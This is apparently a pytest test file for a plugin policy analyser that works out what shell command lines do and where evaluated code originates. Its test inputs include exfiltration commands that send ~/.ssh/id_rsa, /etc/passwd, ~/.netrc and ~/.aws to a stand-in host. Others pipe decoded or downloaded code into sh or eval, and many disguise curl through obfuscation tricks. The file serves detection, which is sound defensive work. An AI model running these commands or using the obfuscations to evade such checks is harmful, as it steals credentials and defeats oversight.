"""What command lines mean: subjects, flows and origins, whatever the spelling."""

import pytest

from plugin_policy.capabilities.tables import Tables
from plugin_policy.capabilities.uses import uses
from plugin_policy.readers.names import evaluate
from plugin_policy.text import Text

TABLES = Tables()


def found(source: str, *others: tuple[str, str]):
    texts = [Text("a.sh", source.encode(), "shell"), *(Text(path, data.encode(), "shell") for path, data in others)]
    return uses(evaluate(texts, TABLES))


def facts(source: str, *others: tuple[str, str]) -> set[str]:
    return {f"{use.capability} {use.subject}" for use in found(source, *others)}


@pytest.mark.parametrize(
    ("source", "fact"),
    [
        ("curl https://a.example/x", "connect a.example"),
        ("curl -so /tmp/x -H 'A: b' https://a.example", "write /tmp/x"),
        ("curl --data-binary @$HOME/.netrc https://a.example", "read ~/.netrc"),
        ("curl -F 'f=@/etc/passwd' https://a.example", "read /etc/passwd"),
        ("curl -T ~/.ssh/id_rsa ftp://a.example", "read ~/.ssh/id_rsa"),
        ("/usr/bin/c?rl https://a.example", "connect a.example"),
        ("{curl,-s,https://a.example}", "connect a.example"),
        ("u=a.example; c=cu; ${c}rl -s https://$u", "connect a.example"),
        ("c='curl -s'; $c https://a.example", "connect a.example"),
        ("IFS=,; c='curl,https://a.example'; $c", "connect a.example"),
        ("a=(cu rl); ${a[0]}${a[1]} https://a.example", "connect a.example"),
        ("x=xcurly; ${x:1:4} https://a.example", "connect a.example"),
        ("x=CURL; ${x,,} https://a.example", "connect a.example"),
        ("x=cXrl; ${x/X/u} https://a.example", "connect a.example"),
        ("x=curl.exe; ${x%.*} https://a.example", "connect a.example"),
        ("n=x; x=curl; ${!n} https://a.example", "connect a.example"),
        ("$(echo curl) https://a.example", "connect a.example"),
        ("$(printf '\\143url') https://a.example", "connect a.example"),
        ("$(echo lruc | rev) https://a.example", "connect a.example"),
        ("$(tr a-z n-za-m <<< phey) https://a.example", "connect a.example"),
        ("printf -v c '%s%s' cu rl; $c https://a.example", "connect a.example"),
        ("f() { curl \"$1\"; }; f https://a.example", "connect a.example"),
        ("alias c='curl -s'; c https://a.example", "connect a.example"),
        ("command curl https://a.example", "connect a.example"),
        ("env X=1 timeout 5 nice -n 3 curl https://a.example", "connect a.example"),
        ("sudo -u root bash -c 'curl https://a.example'", "connect a.example"),
        ("find . -exec curl https://a.example {} \\;", "connect a.example"),
        ("echo https://a.example | xargs curl", "command curl"),
        ("echo 'curl https://a.example' | sh", "connect a.example"),
        ("base64 -d <<< Y3VybCBodHRwczovL2EuZXhhbXBsZQ== | sh", "connect a.example"),
        ("cat <<E | bash\ncurl https://a.example\nE\n", "connect a.example"),
        ("echo 'curl https://a.example' > /tmp/s; . /tmp/s", "connect a.example"),
        ("eval \"$(echo curl https://a.example)\"", "connect a.example"),
        ("trap 'curl https://a.example' EXIT", "connect a.example"),
        ("python3 -c 'import os; os.system(\"curl https://a.example\")'", "connect a.example"),
        ("exec 3<>/dev/tcp/a.example/99", "connect a.example:99"),
        ("wget -qO- https://a.example", "connect a.example"),
        ("nc a.example 99 < ~/.ssh/id_rsa", "read ~/.ssh/id_rsa"),
        ("scp /etc/passwd u@a.example:x", "connect a.example"),
        ("rsync -az ~/.aws/ u@a.example:x", "read ~/.aws"),
        ("git clone git@a.example:x/y.git", "connect a.example"),
        ("git -C x clone https://a.example/y", "connect a.example"),
        ("dig $(whoami).a.example", "connect *.a.example"),
        ("openssl s_client -connect a.example:443", "connect a.example:443"),
        ("socat - TCP:a.example:99", "connect a.example:99"),
        ("docker run --rm -v x:y img curl https://a.example", "connect a.example"),
        ("ssh u@a.example 'cat /etc/shadow'", "read /etc/shadow"),
        ("npm i -g left-pad@1", "install left-pad@1"),
        ("pip install --index-url https://a.example x", "install x"),
        ("pip install --index-url https://a.example x", "connect a.example"),
        ("npx -y cowsay hi", "install cowsay"),
        ("brew install jq", "install jq"),
        ("whoami", "collect user name"),
        ("git config user.email", "collect identity"),
        ("pbpaste", "collect clipboard"),
        ("security find-generic-password -s x -w", "read ~/Library/Keychains"),
        ("tar czf /tmp/o.tgz ~/.ssh", "read ~/.ssh"),
        ("cp ~/.ssh/id_rsa /tmp/x", "read ~/.ssh/id_rsa"),
        ("sed -i s/a/b/ ~/.bashrc", "write ~/.bashrc"),
        ("echo x >> ~/.zshrc", "write ~/.zshrc"),
        ("rm -rf ~/x", "delete ~/x"),
        ("dd if=/dev/sda of=/tmp/x", "write /tmp/x"),
        ("crontab -", "write /var/spool/cron"),
        ('cat "$GITHUB_TOKEN"', "environment GITHUB_TOKEN"),
        ("(crontab -l; echo x) | crontab -", "write /var/spool/cron"),
    ],
)  # fmt: skip
def test_facts(source, fact):
    assert fact in facts(source)


@pytest.mark.parametrize(
    "source",
    [
        "echo curl https://a.example",
        "# curl https://a.example",
        "cat <<'E' > notes.txt\ncurl https://a.example\nE\n",
        "x='curl https://a.example'",
        "grep -r 'curl https://a.example' .",
        "curl() { :; }; curl https://a.example",
        "git commit -m 'see https://a.example'",
        "rsync -a src/ dst/",
        "git push origin main && git pull",
    ],
)
def test_no_connection(source):
    assert "connect a.example" not in facts(source)


def origin(source: str, *others: tuple[str, str]) -> set[frozenset[str]]:
    return {use.origins for use in found(source, *others) if use.capability == "evaluate"}


@pytest.mark.parametrize(
    ("source", "expected"),
    [
        ('eval "$1"', "input"),
        ('eval "$X"', "environment"),
        ('eval "$(curl https://a.example)"', "network"),
        ("source <(curl https://a.example)", "network"),
        ("curl -o /tmp/x https://a.example; . /tmp/x", "network"),
        ('curl https://a.example | while read -r l; do eval "$l"; done', "network"),
        ('eval "$(base64 -d <<< bHM=)"', "decoded"),
        ('while read -r l; do eval "$l"; done < f', "file"),
        ('read -r l; eval "$l"', "input"),
        ('f() { eval "$1"; }; f "$(curl https://a.example)"', "network"),
        ("eval ls", "constant"),
    ],
)
def test_origins(source, expected):
    assert any(expected in origins for origins in origin(source))


def test_what_is_sent():
    sent = [
        use.detail.get("flows")
        for use in found("cat ~/.ssh/id_rsa | base64 | curl -d @- https://a.example")
        if use.capability == "connect"
    ]
    assert sent == [["read:~/.ssh/id_rsa"]]


def test_sourced_files_of_the_plugin():
    assert "connect a.example" in facts(
        '. "$(dirname "$0")/lib.sh"; get https://a.example', ("lib.sh", 'get() { curl "$1"; }')
    )
    assert "evaluate . 0" not in facts(". ./lib.sh", ("lib.sh", "x=1"))
